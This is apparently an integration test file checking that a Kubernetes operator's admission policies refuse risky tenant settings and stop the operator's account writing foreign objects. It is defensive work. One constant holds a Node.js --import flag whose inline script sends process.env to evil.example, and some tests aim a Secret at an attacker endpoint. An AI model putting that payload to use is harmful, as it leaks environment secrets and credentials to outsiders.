/**
 * The chart's ValidatingAdmissionPolicies: what a tenant may name in a RenderService, and what the operator's account
 * may write. On an API server of its own, because each case is tried without the policies first: it must be they who
 * refuse.
 */
import { installAdmissionPolicies } from '../support/admission-policies.ts';
import { ApiClient, type Json, type KindName } from '../support/api-client.ts';
import { ApiServer } from '../support/api-server.ts';
import { eventually } from '../support/eventually.ts';
import { CONTROLLERS } from '../support/global-setup.ts';
import { OperatorProcess } from '../support/operator-process.ts';
import { podTemplate, renderService, World } from '../support/world.ts';
import { FORBIDDEN, type Forbidden, RIGHTS, type Tenant } from './forbidden-resources.ts';
import { SECURITY_CASES, type SecurityCase } from './pod-security.ts';

const NAMESPACE = 'tenants';
/** A flag of Node.js that is one. */
const PROGRAM =
  '--import=data:text/javascript,fetch%28%22http:%2F%2Fevil.example%2F%22+JSON.stringify%28process.env%29%29';
const TENANTS = Object.keys(RIGHTS) as Tenant[];
/** May do all with RenderServices, and nothing else. */
const NOBODY = 'nobody';

let server: ApiServer;
let world: World;
let operator: ApiClient;
let clients: Record<Tenant | typeof NOBODY, ApiClient>;

/** What the API server tells a user who tries; empty when it works. */
async function refusal(user: Tenant | typeof NOBODY, resource: Json): Promise<string> {
  try {
    await clients[user].post(`${world.path('RenderService')}?dryRun=All&fieldValidation=Strict`, resource);
    return '';
  } catch (error) {
    return (error as Error).message;
  }
}

function resourceOf({ spec, labels }: Forbidden, name = 'shop'): Json {
  const { metadata, ...resource } = renderService(NAMESPACE, name, spec);
  return { ...resource, metadata: { ...metadata, ...(labels && { labels }) } };
}

/** Gives each tenant all rights on RenderServices, and what else it may do. */
async function createTenants(): Promise<void> {
  const renderServices = { apiGroups: ['corelane.dev'], resources: ['renderservices', 'renderservices/scale'] };
  for (const [name, rules] of Object.entries({ ...RIGHTS, [NOBODY]: [] })) {
    const role = {
      rules: [{ ...renderServices, verbs: ['create', 'get', 'list', 'patch', 'update', 'delete'] }, ...rules],
    };
    await world.admin.post(world.path('Role'), { metadata: { name }, ...role });
    await world.admin.post(world.path('RoleBinding'), {
      metadata: { name },
      roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'Role', name },
      subjects: [{ apiGroup: 'rbac.authorization.k8s.io', kind: 'User', name }],
    });
  }
}

/** Somebody else's objects, by kind, and the operator's rights on each of them. */
const FOREIGN: { kind: KindName; content: object; mayDelete?: boolean; mayOnlyCreate?: boolean }[] = [
  { kind: 'ConfigMap', content: { data: { a: 'b' } }, mayDelete: true },
  { kind: 'Service', content: { spec: { ports: [{ port: 80 }] } } },
  { kind: 'Secret', content: { stringData: { key: 'a' } }, mayOnlyCreate: true },
  {
    kind: 'PodDisruptionBudget',
    content: { spec: { maxUnavailable: 1, selector: { matchLabels: { app: 'mine' } } } },
    mayDelete: true,
  },
  { kind: 'NetworkPolicy', content: { spec: { podSelector: {} } }, mayDelete: true },
  {
    kind: 'Deployment',
    content: {
      spec: {
        selector: { matchLabels: { app: 'mine' } },
        template: { metadata: { labels: { app: 'mine' } }, ...podTemplate() },
      },
    },
  },
];
const CONTROLLER = {
  apiVersion: 'corelane.dev/v1alpha1',
  kind: 'RenderService',
  name: 'shop',
  uid: crypto.randomUUID(),
  controller: true,
};

/** What the operator's account may not do, by kind. */
function misdeeds({
  kind,
  content,
  mayDelete,
  mayOnlyCreate,
}: (typeof FOREIGN)[number]): [what: string, tried: () => Promise<Json>][] {
  const query = '?dryRun=All';
  const foreign = `${world.path(kind, 'foreign')}${query}`;
  const create = (owner: object[]) => () =>
    operator.post(world.path(kind) + query, { metadata: { name: 'made', ownerReferences: owner }, ...content });
  const made = [
    ['make one of nobody', create([])],
    ['make one of a RenderService that is not its controller', create([{ ...CONTROLLER, controller: false }])],
    [
      'make one whose controller is something else',
      create([{ ...CONTROLLER, apiVersion: 'apps/v1', kind: 'Deployment' }]),
    ],
    ['make one of a RenderService of another group', create([{ ...CONTROLLER, apiVersion: 'example.com/v1' }])],
  ] as [string, () => Promise<Json>][];
  if (mayOnlyCreate) return made;
  return [
    ...made,
    ['change a foreign one', () => operator.patch(foreign, { metadata: { labels: { a: 'b' } } })],
    ['take a foreign one over', () => operator.patch(foreign, { metadata: { ownerReferences: [CONTROLLER] } })],
    ...(mayDelete ? ([['delete a foreign one', () => operator.delete(foreign)]] as const) : []),
  ] as [string, () => Promise<Json>][];
}

/** Labels of pods: of a RenderService, and of nobody's. */
const PODS = { own: { 'corelane.dev/renderservice': 'shop' }, alien: { app: 'alien' } };
const NUDGE = { metadata: { annotations: { 'corelane.dev/live': '1' } } };

/** What the operator's account may not do with pods. */
const POD_MISDEEDS: [what: string, name: keyof typeof PODS, patch: object][] = [
  ['another image', 'own', { spec: { containers: [{ name: 'worker', image: 'corelane.test/evil:1' }] } }],
  ['another label', 'own', { metadata: { labels: { app: 'other' } } }],
  ['no label', 'own', { metadata: { labels: { 'corelane.dev/renderservice': null } } }],
  ['another annotation', 'own', { metadata: { annotations: { a: 'c' } } }],
  ['one annotation more', 'own', { metadata: { annotations: { ...NUDGE.metadata.annotations, more: '1' } } }],
  ['one annotation less', 'own', { metadata: { annotations: { a: null } } }],
  ['a finalizer', 'own', { metadata: { finalizers: ['example.com/stay'] } }],
  ['the annotation of a pod of nobody', 'alien', NUDGE],
  ['the label of a pod of nobody', 'alien', { metadata: { labels: { 'corelane.dev/serving': 'false' } } }],
];
const change = (name: keyof typeof PODS, patch: object) =>
  operator.patch(`${world.path('Pod', name)}?dryRun=All`, patch);

beforeAll(async () => {
  server = await ApiServer.start('policies', { controllers: CONTROLLERS });
  world = await World.create(server, NAMESPACE);
  operator = new ApiClient(server.operatorKubeconfig);
  await createTenants();
  const client = (user: string) => [user, new ApiClient(server.adminKubeconfig, user)] as const;
  clients = Object.fromEntries([...TENANTS, NOBODY].map(client)) as typeof clients;
  for (const { kind, content } of FOREIGN)
    await world.admin.post(world.path(kind), { metadata: { name: 'foreign' }, ...content });
  for (const [name, labels] of Object.entries(PODS))
    await world.admin.post(world.path('Pod'), {
      metadata: { name, labels, annotations: { a: 'b' } },
      ...podTemplate(),
    });
});

afterAll(async () => {
  await OperatorProcess.killAll();
  await server?.remove();
});

describe('without the policies', () => {
  test.each(FORBIDDEN)('a tenant names $what', async (forbidden) => {
    expect(await refusal('tenant', resourceOf(forbidden))).toBe('');
  });

  test.each(FOREIGN)("the operator's account does what it likes with a $kind", async (foreign) => {
    for (const [, tried] of misdeeds(foreign)) await tried();
  });
});

test.each(POD_MISDEEDS)('without the policies the operator gives a pod %s', (_what, name, patch) =>
  change(name, patch),
);

describe('with the policies', () => {
  beforeAll(async () => {
    // Somebody who may has made this one; what tenants do with it is below.
    await world.createRenderService('of-admin', { template: podTemplate({}, { hostPID: true }) });
    const labels = { 'example.com/cost-center': '42' };
    await world.admin.patch(world.path('RenderService', 'of-admin'), { metadata: { labels } });
    await world.createRenderService('with-headers', {
      template: podTemplate(),
      tracing: { endpoint: 'https://otlp.example', headersFrom: { name: 'key' } },
    });
    await installAdmissionPolicies(server);
  });

  test('they have no error that the API server knows of', async () => {
    const path = '/apis/admissionregistration.k8s.io/v1/validatingadmissionpolicies';
    const { items } = await world.admin.get(path);
    expect(items).toHaveLength(4);
    for (const { status } of items) expect(status?.typeChecking?.expressionWarnings ?? []).toEqual([]);
  });

  test.each(TENANTS)('%s may make an ordinary RenderService', async (user) => {
    const template = podTemplate(
      {
        env: [{ name: 'POD', valueFrom: { fieldRef: { fieldPath: 'metadata.name' } } }],
        securityContext: { runAsNonRoot: true, capabilities: { drop: ['ALL'], add: ['NET_BIND_SERVICE'] } },
        volumeMounts: [{ name: 'cache', mountPath: '/cache' }],
      },
      {
        securityContext: { seccompProfile: { type: 'RuntimeDefault' } },
        // As charts and copied Deployments have them.
        ...{ schedulerName: 'default-scheduler', priorityClassName: '', tolerations: [] },
        volumes: [
          { name: 'cache', emptyDir: {} },
          { name: 'info', downwardAPI: { items: [{ path: 'name', fieldRef: { fieldPath: 'metadata.name' } }] } },
        ],
      },
    );
    const spec = { template, service: { port: 8080 }, networkPolicy: { enabled: false }, pooling: { enabled: false } };
    // As people and tools give them to all that is theirs.
    const labels = { team: 'web', 'app.kubernetes.io/part-of': 'shop', 'kustomize.toolkit.fluxcd.io/name': 'shop' };
    expect(await refusal(user, resourceOf({ what: '', field: '', allowed: [], spec, labels }))).toBe('');
  });

  test.each([{}, { serviceAccountName: 'default' }, { serviceAccount: 'default' }, { serviceAccountName: '' }])(
    'who has no right to the account of the namespace cannot have it by %j either',
    async (pod) => {
      const resource = renderService(NAMESPACE, 'shop', { template: podTemplate({}, pod) });
      expect(await refusal(NOBODY, resource)).toContain(
        'denied request: spec.template.spec.serviceAccountName: pods run',
      );
      expect(await refusal('tenant', resource)).toBe('');
    },
  );

  test.each(FORBIDDEN)('$what is for those with the right to it', async (forbidden) => {
    for (const user of TENANTS) {
      const text = await refusal(user, resourceOf(forbidden));
      if (forbidden.allowed.includes(user)) expect({ user, text }).toEqual({ user, text: '' });
      else
        expect({ user, text }).toEqual({ user, text: expect.stringContaining(`denied request: ${forbidden.field}: `) });
    }
  });

  test('what the API server\'s own Pod Security "baseline" refuses, a tenant cannot name', async () => {
    const enforce = 'pod-security.kubernetes.io/enforce';
    // From the next version on "baseline" lets a pod in a user namespace have another view of /proc.
    const labels = { [enforce]: 'baseline', [`${enforce}-version`]: 'v1.34' };
    await world.admin.post('/api/v1/namespaces', { metadata: { name: 'baseline', labels } });
    const refusedAsPod = async ({ metadata, spec }: SecurityCase['template']) => {
      const pod = { metadata: { ...metadata, name: 'pod' }, spec };
      const tried = world.admin.post('/api/v1/namespaces/baseline/pods?dryRun=All', pod);
      return tried.then(
        () => '',
        // The second one: this API server allows no privileged container at all.
        ({ message }: Error) =>
          /violates PodSecurity|disallowed by cluster policy$/.test(message) ? 'refused' : message,
      );
    };
    const seen = { refused: new Set<string>(), invalid: [] as string[], letThrough: [] as string[] };
    for (const { what, control, template } of SECURITY_CASES) {
      const asPod = await refusedAsPod(template);
      if (asPod === 'refused') seen.refused.add(control);
      else if (asPod) seen.invalid.push(`${what}: ${asPod}`);
      if (asPod === 'refused' && !(await refusal('tenant', renderService(NAMESPACE, 'shop', { template }))))
        seen.letThrough.push(what);
    }
    expect(seen).toEqual({
      refused: new Set(SECURITY_CASES.map(({ control }) => control)),
      invalid: [],
      letThrough: [],
    });
  });

  test('an administrator may name all of it', async () => {
    for (const forbidden of FORBIDDEN)
      await world.admin.post(`${world.path('RenderService')}?dryRun=All`, resourceOf(forbidden));
  });

  test('an existing one goes on for a tenant in all that names nothing', async () => {
    const tenant = (...command: string[]) => world.kubectl.run(...command, '--as=tenant');
    const patch = (spec: object) =>
      tenant('patch', 'renderservice', 'of-admin', '--type=merge', `--patch=${JSON.stringify({ spec })}`);
    await patch({ replicas: 3, queue: { maxLength: 7 } });
    await tenant('scale', 'renderservice', 'of-admin', '--replicas=1');
    await tenant('label', 'renderservice', 'of-admin', 'team=web');
    await expect(
      tenant('label', 'renderservice', 'of-admin', 'example.com/cost-center=1', '--overwrite'),
    ).rejects.toThrow('denied request: metadata.labels: ');
    // The image of a pod that sees all processes of the node is as much as the pod.
    await expect(
      patch({ template: podTemplate({ image: 'corelane.test/evil:1' }, { hostPID: true }) }),
    ).rejects.toThrow('denied request: spec.template.spec: hostPID');
    // So is a flag that is a program.
    await expect(patch({ runtime: { nodeFlags: [PROGRAM] } })).rejects.toThrow(
      'denied request: spec.template.spec: hostPID',
    );
    await expect(patch({ service: { type: 'LoadBalancer' } })).rejects.toThrow('denied request: spec.');
    await patch({ template: podTemplate({ image: 'corelane.test/good:1' }, { hostPID: null }) });
    await tenant('delete', 'renderservice', 'of-admin');
  });

  test('a tenant sends no Secret that somebody else has named to another endpoint, nor to a program of his', async () => {
    const patch = (spec: object) =>
      world.kubectl.run(
        ...['patch', 'renderservice', 'with-headers', '--type=merge', `--patch=${JSON.stringify({ spec })}`],
        '--as=tenant',
      );
    await patch({ replicas: 3 });
    for (const spec of [
      { tracing: { endpoint: 'https://evil.example' } },
      { template: podTemplate({ image: 'corelane.test/evil:1' }) },
      { runtime: { nodeFlags: [PROGRAM] } },
    ])
      await expect(patch(spec)).rejects.toThrow('denied request: spec.tracing.headersFrom: ');
    await patch({ tracing: { endpoint: 'https://evil.example', headersFrom: null } });
  });

  test.each(FOREIGN)("the operator's account writes no $kind but those of RenderServices", async (foreign) => {
    for (const [what, tried] of misdeeds(foreign)) {
      const outcome = await tried().then(
        () => 'done',
        (error: Error) => error.message,
      );
      expect({ what, outcome }).toEqual({
        what,
        outcome: expect.stringContaining('whose controller is a RenderService'),
      });
    }
    const own = { metadata: { name: 'made', ownerReferences: [CONTROLLER] }, ...foreign.content };
    await operator.post(`${world.path(foreign.kind)}?dryRun=All`, own);
  });

  test.each(POD_MISDEEDS)("the operator's account gives a pod not %s", async (_what, name, patch) => {
    await expect(change(name, patch)).rejects.toThrow(
      'may only change the annotation corelane.dev/live and the label corelane.dev/serving of pods',
    );
  });

  test('but the annotation it does, and the label by which the Service tells who gets requests', async () => {
    await change('own', NUDGE);
    await change('own', { metadata: { labels: { 'corelane.dev/serving': 'false' } } });
  });

  test('others write what they like', async () => {
    await world.admin.patch(world.path('ConfigMap', 'foreign'), { data: { a: 'c' } });
  });

  test('the operator works as ever: makes, mends, changes and deletes', async () => {
    const process = await world.startOperator();
    await world.createRenderService('works');
    await world.untilApplied('works');
    await world.admin.patch(world.path('Service', 'works'), { spec: { selector: { tier: 'gold' } } });
    await world.admin.delete(world.path('ConfigMap', 'works-live'));
    await world.patchSpec('works', {
      queue: { maxLength: 3 },
      disruptionBudget: { enabled: false },
      networkPolicy: { enabled: false },
    });
    await eventually('all of it is done', async () => {
      await world.get('ConfigMap', 'works-live');
      expect((await world.get('Service', 'works')).spec.selector).toEqual({
        ...{ 'corelane.dev/renderservice': 'works', 'corelane.dev/serving': 'true' },
      });
      expect(await world.find('PodDisruptionBudget', 'works')).toBeUndefined();
      expect(await world.find('NetworkPolicy', 'works')).toBeUndefined();
    });
    await world.untilApplied('works');
    expect(process.log).not.toContain('ValidatingAdmissionPolicy');
  });
});
